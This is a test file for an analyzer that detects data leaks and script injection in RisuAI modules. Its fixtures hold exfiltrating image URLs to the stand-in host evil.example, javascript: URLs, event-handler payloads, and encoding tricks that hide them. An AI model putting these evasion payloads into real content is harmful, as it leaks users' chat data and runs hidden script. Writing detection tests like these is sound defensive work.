"""Findings of the ninth pass on the HTML side, each a test that fails before its fix:

* a regex script's ``$n`` is a line break (scripts.ts ``executeScript`` replaces every
  ``$n`` before the output is used), which a browser drops inside an address: ``//evil.ex$n
  ample/?q=$1`` leaked the matched text and ``javascript$n:`` was a script URL, unseen;
* RisuAI's display map (``risuUnescape`` after the Markdown of a chat message: U+E9BE is
  ``:``, U+E9BF ``;``, U+E9BA/U+E9BB ``(``/``)``, U+E9B8/U+E9B9 ``{``/``}``, U+E9BC/U+E9BD
  ``&lt;``/``&gt;``) made ``http\\ue9be/h`` an address and ``javascript\\ue9be`` a script
  URL, unseen; the background (shown without it) keeps them as they are;
* CBS tags that give characters (``{{u::2f}}``, ``{{unicodedecode::58}}``, ``{{dec}}``,
  ``{{br}}`` ...) built schemes and slashes the readers did not see (they removed the tags);
* CBS decoders (``{{file::name::base64}}`` outside a chat message's display,
  ``{{xordecrypt::...}}``, ``{{crypt::...}}``) hid whole HTML: an address leaking chat
  data, a handler; one whose argument is not literal is an unknown text (an address from it
  then chat data is RA305 with host ``*``);
* ``risu-btn`` was read case-sensitively and only quoted (``RISU-BTN="buy"``,
  ``risu-btn=sell`` gave no button), and inside another attribute's value
  (``data-x="risu-btn='zz'"``) it gave one;
* what a CBS tag builds from its arguments is HTML: ``{{button::Go::go" onclick="..."}}``
  puts its argument in ``risu-trigger="..."`` unescaped, so a quote in it adds a handler.
"""

from __future__ import annotations

import base64
from typing import Any

import pytest

from risutools.analysis import analyze
from risutools.analysis.cbsfold import MAX_FOLDED, fold_cbs
from risutools.analysis.model import Analysis
from risutools.formats.model import Module


def regex_out(out: str, kind: str = "editdisplay") -> Analysis:
    return analyze(Module({"name": "R", "id": "r", "regex": [
        {"comment": "r", "in": "(.+)", "out": out, "type": kind, "flag": "g"}]}))


def module(**data: Any) -> Analysis:
    return analyze(Module({"name": "M", "id": "m", **data}))


def rules(a: Analysis) -> set[str]:
    return {f.rule for f in a.findings}


def leaks(a: Analysis) -> list[str]:
    return [f.message for f in a.findings if f.rule == "RA305"]


def hosts(a: Analysis) -> set[str]:
    return {f.name for f in a.url_hosts}


def buttons(a: Analysis) -> set[str]:
    return {f.name for f in a.button_callbacks}


# ---- $n in a regex output ----------------------------------------------------------------

def test_dollar_n_is_a_line_break_a_browser_drops_in_an_address() -> None:
    a = regex_out('<img src="//evil.ex$nample/?q=$1">')
    assert any("evil.example" in m for m in leaks(a))
    assert "RA303" in rules(regex_out('<a href="javascript$n:alert(1)">x</a>'))
    a = regex_out('<img src="https://evil.ex$nample/p.png">')
    assert "evil.example" in hosts(a)


def test_dollar_n_keeps_the_lines_of_the_text_as_written() -> None:
    a = regex_out('a$nb$nc\n<img src="https://h.example/?q=$1">')
    ev = [f.evidence for f in a.findings if f.rule == "RA305"]
    assert ev and all("line 2" in e for e in ev)


def test_data_stays_what_it_is_the_match_is_dollar_amp() -> None:
    # RisuAI's ``.replace(/{{data}}/g, "$&")`` puts back the text it matched: a no-op
    assert any("h.example" in m for m in leaks(regex_out('<img src="https://h.example/?$&">')))


# ---- RisuAI's display map ----------------------------------------------------------------

@pytest.mark.parametrize("out", [
    '<img src="http\ue9be/evil.example/?q=$1">',
    '<img src="https\ue9be\\evil.example/?q=$1">',
    '<img src="HTTP\ue9be/evil.example/?q=$1">',
])
def test_the_display_colon_makes_an_address(out: str) -> None:
    assert any("evil.example" in m for m in leaks(regex_out(out)))


def test_the_display_colon_makes_a_script_url_and_a_host() -> None:
    assert "RA303" in rules(regex_out('<a href="javascript\ue9bealert(1)">x</a>'))
    assert "evil.example" in hosts(regex_out('<img src="https\ue9be//evil.example/p.png">'))
    greeting = analyze(Module({"name": "C", "id": "c", "cardFields": {
        "first_mes": '<a href="javascript\ue9bealert(1)">x</a>'}}))
    assert "RA303" in rules(greeting)


def test_the_background_is_shown_without_the_display_map() -> None:
    a = module(backgroundEmbedding='<a href="javascript\ue9bealert(1)">x</a>')
    assert "RA303" not in rules(a)


# ---- CBS tags that give characters -------------------------------------------------------

@pytest.mark.parametrize("out", [
    '<img src="https:{{u::2f}}{{u::2f}}evil.example/?q={{lastmessage}}">',
    '<img src="http{{u::3a}}/evil.example/?q={{lastmessage}}">',
    '<img src="http{{unicodedecode::58}}/evil.example/?q=$1">',
    '<img src="http{{unicode_decode:: 0x3a }}/evil.example/?q=$1">',
    '<img src="http{{U::1003A}}/evil.example/?q=$1">',
    '<img src="http{{dec}}/evil.example/?q=$1">',
    '<img src="http{{displayescapedcolon}}/evil.example/?q=$1">',
    '<img src="http:{{u::2f}}{{br}}evil.example/?q=$1">',
    'http{{u::3a}}/evil.example/?q={{lastmessage}}',
])
def test_a_tag_that_gives_a_character_builds_the_address(out: str) -> None:
    assert any("evil.example" in m for m in leaks(regex_out(out)))


def test_a_tag_that_gives_a_colon_makes_a_script_url() -> None:
    assert "RA303" in rules(regex_out('<a href="javascript{{u::3a}}alert(1)">x</a>'))
    assert "RA303" in rules(module(
        backgroundEmbedding='<a href="javascript{{unicodedecode::58}}alert(1)">x</a>'))
    # the background keeps U+E9BE as it is (no display map): not a colon there
    assert "RA303" not in rules(module(
        backgroundEmbedding='<a href="javascript{{dec}}alert(1)">x</a>'))


def test_a_tag_nested_in_a_tag_that_gives_a_character() -> None:
    out = '<img src="http{{u::{{u::33}}a}}/evil.example/?q=$1">'
    assert any("evil.example" in m for m in leaks(regex_out(out)))


def test_a_character_tag_keeps_its_line() -> None:
    a = regex_out('x\n<img src="http:{{u::2f}}{{br}}{{u::2f}}evil.example/?q=$1">\n<b>y</b>')
    ev = [f.evidence for f in a.findings if f.rule == "RA305"]
    assert ev and all("line 2" in e for e in ev)


# ---- CBS decoders ------------------------------------------------------------------------

def cbs(*parts: str) -> str:
    return "{{" + "::".join(parts) + "}}"


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def xor64(text: str) -> str:
    return base64.b64encode(bytes(b ^ 0xFF for b in text.encode())).decode()


def test_a_file_tag_hides_an_address() -> None:
    a = regex_out(cbs("file", "a", b64('<img src="https://evil.example/?q=')) + '$1">')
    assert any("evil.example" in m for m in leaks(a))
    assert "evil.example" in hosts(a)


def test_a_decoder_hides_a_handler() -> None:
    assert "RA302" in rules(regex_out(cbs("file", "a", b64("<img src=x onerror=alert(1)>"))))
    assert "RA302" in rules(regex_out(cbs("xordecrypt", xor64("<img src=x onerror=f()>"))))
    assert "RA302" in rules(module(backgroundEmbedding=cbs("xord", xor64("<svg onload=f()>"))))
    shifted = "".join(chr((ord(c) + 32768) % 65536) for c in "<img src=x onerror=f()>")
    assert "RA302" in rules(regex_out(cbs("crypt", shifted)))
    by_one = "".join(chr(ord(c) - 1) for c in "<img src=x onerror=f()>")
    assert "RA302" in rules(regex_out(cbs("caesar", by_one, "1")))


def test_a_file_tag_in_a_greeting_is_shown_as_its_name() -> None:
    # a chat message is parsed for display (visualize): the file's name, not its text
    a = analyze(Module({"name": "C", "id": "c", "cardFields": {
        "first_mes": cbs("file", "a.txt", b64("<img src=x onerror=alert(1)>"))}}))
    assert "RA302" not in rules(a)


def test_a_decoder_of_a_text_not_literal_is_an_unknown_address() -> None:
    a = regex_out('<img src="{{xordecrypt::{{getvar::k}}}}{{lastmessage}}">')
    assert any("to * " in m for m in leaks(a))
    # a literal one is read as the text it gives: "hello" then chat data is no address
    assert leaks(regex_out('<img src="{{xordecrypt::%s}}{{lastmessage}}">'.replace(
        "%s", xor64("hello")))) == []


def test_decoding_is_bounded() -> None:
    one = cbs("xordecrypt", xor64("<b>" * 100_000))
    folded = fold_cbs(one * 20)
    assert len(folded.text) <= MAX_FOLDED + len(one) * 20
    assert folded.text.count("<b>") <= MAX_FOLDED // 3
    nested = "{{crypt::" * 60 + "x" * 100_000 + "}}" * 60  # each level within the budget
    assert len(fold_cbs(nested).text) <= MAX_FOLDED + len(nested)


# ---- risu-btn read as HTML reads attributes ----------------------------------------------

def test_risu_btn_in_any_case_and_unquoted() -> None:
    a = module(backgroundEmbedding='<button RISU-BTN="buy">a</button>'
               '<button risu-btn=sell>b</button>')
    assert {"buy", "sell"} <= buttons(a)
    assert "hook.manual" in a.hook_names()


def test_risu_btn_inside_another_attributes_value_is_no_button() -> None:
    a = module(backgroundEmbedding="<div data-x=\"risu-btn='zz'\">a</div>")
    assert "zz" not in buttons(a)


def test_risu_btn_in_a_lorebook_entry_in_any_case() -> None:
    a = module(lorebook=[{"key": "k", "comment": "c", "content": "<b RISU-BTN=go>x</b>",
                          "mode": "normal", "insertorder": 100, "alwaysActive": True,
                          "secondkey": "", "selective": False}])
    assert "go" in buttons(a)


# ---- HTML a tag builds from its arguments ------------------------------------------------

def test_a_quote_in_a_button_argument_adds_a_handler() -> None:
    a = regex_out('{{button::Go::go" onclick="fetch(1)}}')
    assert "RA302" in rules(a)
    assert buttons(a) == {"go"}  # (the attribute's value ends at the quote)
    assert "RA302" in rules(regex_out('{{risu::1px" onerror="fetch(1)}}'))


def test_a_plain_button_is_no_handler() -> None:
    a = regex_out("{{button::Go::go}}{{risu::30}}")
    assert "RA302" not in rules(a)
    assert "go" in buttons(a)
